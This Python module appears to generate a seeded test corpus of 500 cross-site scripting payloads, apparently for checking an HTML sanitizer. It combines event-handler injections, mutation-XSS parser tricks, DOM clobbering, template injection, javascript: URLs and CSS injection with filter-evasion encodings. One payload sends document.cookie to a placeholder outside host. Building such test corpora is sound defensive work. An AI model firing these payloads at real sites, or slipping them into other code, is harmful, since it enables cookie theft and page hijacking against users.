"""Texts that would like to become markup, from a small grammar: breakout × carrier × deed × disguise."""

from __future__ import annotations

import base64
import html
import itertools
import random
from collections.abc import Callable, Iterator
from urllib.parse import quote

COUNT = 500
SEED = 20261123

DEEDS = (
    "(window.hits=window.hits||[]).push({n})",
    "parent.hits=[{n}];window.hits=[{n}]",
    "alert({n})",
    "fetch('{out}/{n}')",
    "new Image().src='{out}/{n}?'+document.cookie",
    "document.body.innerHTML='<b id=planted>{n}</b>'",
    "top.location='{out}/{n}'",
)
"""What a payload does when it runs; `n` is its number, `out` somewhere else."""

BREAKOUTS = (
    "",
    '">',
    "'>",
    '" ',
    "' ",
    "`>",
    "-->",
    "]]>",
    "</script>",
    "</style>",
    "</textarea>",
    "</title>",
    "</template>",
    "</noscript>",
    "</select>",
    "</option></select>",
    "</svg>",
    "</crowd-form>",
    "\"}]'>",
    "&quot;&gt;",
    "\u2028",
    "\x00",
)
"""What might end the place where the text stands."""

EVENTS = (
    ("img src=x", "onerror"),
    ("image src=x", "onerror"),
    ("svg", "onload"),
    ("body", "onload"),
    ("body", "onpageshow"),
    ("input autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("details open", "ontoggle"),
    ("video src=x", "onerror"),
    ("video><source src=x", "onerror"),
    ("audio src=x", "onerror"),
    ("iframe", "onload"),
    ("object data=x", "onerror"),
    ("embed src=x", "onerror"),
    ("link rel=stylesheet href=x", "onerror"),
    ("script src=x", "onerror"),
    ("style", "onload"),
    ("marquee", "onstart"),
    ("svg><animate attributeName=x dur=1s", "onbegin"),
    ("svg><set attributeName=x", "onbegin"),
    ("svg><image href=x", "onerror"),
    ("math><mtext><img src=x", "onerror"),
    ("crowd-input autofocus name=planted", "onfocus"),
    ("div style=animation-name:spin", "onanimationstart"),
    ("div popover id=p><button popovertarget=p autofocus", "onfocus"),
    ("xss contenteditable tabindex=1 autofocus", "onfocus"),
)
"""Tags, and the event of theirs that comes by itself."""


def carriers(deed: str) -> Iterator[str]:
    """Markup that runs `deed` without anybody's doing."""
    quoted = deed.replace('"', "&quot;")
    for tag, event in EVENTS:
        yield f'<{tag} {event}="{quoted}">'
    yield f"<script>{deed}</script>"
    yield f"<script type=module>{deed}</script>"
    yield f"<svg><script>{deed}</script></svg>"
    yield f"<svg><script href='data:text/javascript,{quote(deed)}'></script></svg>"
    yield f"<script src='data:text/javascript,{quote(deed)}'></script>"
    yield "<script src='{out}/{n}.js'></script>"
    yield f'<iframe srcdoc="<script>{quoted}</script>"></iframe>'
    yield f'<iframe srcdoc="&lt;script&gt;{quoted}&lt;/script&gt;"></iframe>'
    encoded = base64.b64encode(f"<script>{deed}</script>".encode()).decode()
    yield f"<iframe src='data:text/html;base64,{encoded}'></iframe>"
    yield f'<iframe src="javascript:{quoted}"></iframe>'
    yield f'<object data="javascript:{quoted}"></object>'
    yield f'<form action="javascript:{quoted}"><button autofocus>x</button></form>'
    yield f'<meta http-equiv=refresh content="0;url=javascript:{quoted}">'
    yield "<meta http-equiv=refresh content='0;url={out}/{n}'>"
    yield "<base href='{out}/{n}/'>"
    yield "<link rel=stylesheet href='{out}/{n}.css'>"
    yield "<link rel=prefetch href='{out}/{n}'>"
    yield "<style>@import url({out}/{n}.css); *{{display:none}}</style>"
    yield "<img src='{out}/{n}.png' srcset='{out}/{n}.webp 2x'>"
    yield "<video poster='{out}/{n}.png'></video>"
    yield "<input type=image src='{out}/{n}.png'>"


MUTATING = (
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={deed}&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror={deed}>">',
    '<noscript><p title="</noscript><img src=x onerror={deed}>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={deed}>",
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror={deed}></style>',
    "<svg><desc><noscript><style></desc><img src=x onerror={deed}>",
    "<listing>&lt;img src=x onerror={deed}&gt;</listing>",
    "<xmp><p title='</xmp><svg/onload={deed}>'>",
    "<template><style></template><img src=x onerror={deed}>",
    "<table><td background='javascript:{deed}'><svg onload={deed}>",
    "<select><template><svg onload={deed}></template></select>",
    "<title>&lt;/title&gt;<svg onload={deed}>",
)
"""Markup that another parse turns into something else."""

CLOBBERING = (
    "<a id=location href='{out}/{n}'>",
    "<form name=document><input name=cookie><input name=body></form>",
    "<form id=crowd-form><input name=attributes><input name=submit></form>",
    "<img name=overread id=overread>",
    "<a id=customElements><a id=customElements name=define>",
    "<iframe name=parent></iframe>",
    "<input name=__proto__ value=1>",
    "<form name=fetch><output name=then></form>",
    "<crowd-input name='planted{n}' value='1'></crowd-input>",
    "<slot name='planted{n}'></slot>",
)
"""Names that scripts rely on."""

TEMPLATING = (
    "{{{{7*7}}}}{n}",
    "{{{{ task.input | to_json | skip_autoescape }}}}{n}",
    "{{{{ '<img src=x onerror=alert({n})>' | skip_autoescape }}}}",
    "{{%raw%}}<svg onload=alert({n})>{{%endraw%}}",
    "{{% assign x = '<script>alert({n})</script>' %}}{{{{ x | skip_autoescape }}}}",
    "${{7*7}}${{alert({n})}}",
    "<%= 7*7 %>{n}",
    "#{{7*7}}{n}",
    "[[{{{{7*7}}}}]]{n}",
    "{{{{constructor.constructor('alert({n})')()}}}}",
    "`${{alert({n})}}`",
)
"""Other people's template languages, and our own."""

ADDRESSES = (
    "javascript:alert({n})",
    "JaVaScRiPt:alert({n})",
    "java\tscript:alert({n})",
    "java\nscript:alert({n})",
    "\x01javascript:alert({n})",
    "javascript&colon;alert({n})",
    "javascript:/*--></script><svg/onload='+/\"/+/onload=alert({n})//'>",
    "vbscript:msgbox({n})",
    "data:text/html,<script>alert({n})</script>",
    "blob:{out}/{n}",
    "{out}/{n}",
    "//127.0.0.1:9/{n}",
    's3://bucket/{n}"onerror=alert({n})//',
    "view-source:{out}/{n}",
)
"""What must not become an address."""

STYLES = (
    "red;background:url({out}/{n}.png)",
    "red}}*{{background:url({out}/{n}.png)}}",
    "expression(alert({n}))",
    "url(javascript:alert({n}))",
    "</style><svg onload=alert({n})>",
    "\\3c/style\\3e\\3csvg onload=alert({n})\\3e",
    "@import '{out}/{n}.css';",
    "red;position:fixed;inset:0;z-index:99999;--n:{n}",
)
"""What must not become a style with a life of its own."""

SCRIPTS = (
    "</script><script>alert({n})</script>",
    "<!--<script>alert({n})",
    "'-alert({n})-'",
    '"-alert({n})-"',
    "\\';alert({n});//",
    '\\";alert({n});//',
    '"}}];alert({n});//',
    "\u2028alert({n})\u2029",
    "\\u003cscript\\u003ealert({n})\\u003c/script\\u003e",
    "*/alert({n})/*",
)
"""What must not leave a JSON text or a string of a script."""

DISGUISES: tuple[Callable[[str], str], ...] = (
    lambda text: text,
    lambda text: "".join(char.upper() if index % 2 else char for index, char in enumerate(text)),
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace(" ", "\t").replace(">", "\n>"),
    html.escape,
    lambda text: "".join(f"&#{ord(char)};" for char in text[:24]) + text[24:],
    lambda text: "".join(f"&#x{ord(char):x}" for char in text[:24]) + text[24:],
    quote,
    lambda text: quote(quote(text)),
    lambda text: text.replace("<", "\\u003c").replace(">", "\\u003e"),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),
    lambda text: text.replace("<", "\x00<"),
    lambda text: text.replace("<", "<!--><"),
    lambda text: text.replace("<", "%3C%00"),
    lambda text: f"<{text}",
    lambda text: f"{text}{text}",
)
"""How a payload tries to get past whoever looks for it."""


def payloads(*, out: str) -> list[str]:
    """COUNT different texts; `out` is an address that none of them may reach."""
    numbers = itertools.count(1)
    made: dict[str, None] = {}
    for family in (MUTATING, CLOBBERING, TEMPLATING, ADDRESSES, STYLES, SCRIPTS):
        for text in family:
            made[_filled(text.replace("{deed}", "alert({n})"), number=next(numbers), out=out)] = None
    for index in range(len(list(carriers("")))):
        carrier = list(carriers(DEEDS[index % len(DEEDS)]))[index]
        made[_filled(carrier, number=next(numbers), out=out)] = None
    chance = random.Random(SEED)
    while len(made) < COUNT:
        carrier = chance.choice(list(carriers(chance.choice(DEEDS))))
        text = chance.choice(BREAKOUTS) + _filled(carrier, number=next(numbers), out=out)
        made[chance.choice(DISGUISES)(text)] = None
    return list(made)[:COUNT]


def _filled(text: str, *, number: int, out: str) -> str:
    filled = text.replace("{n}", str(number)).replace("{out}", out)
    return filled.replace("{{", "{").replace("}}", "}")


def as_parsed(text: str) -> str:
    """The text as an HTML parser hands it on: no NUL, one kind of line end."""
    return text.replace("\x00", "").replace("\r\n", "\n").replace("\r", "\n")
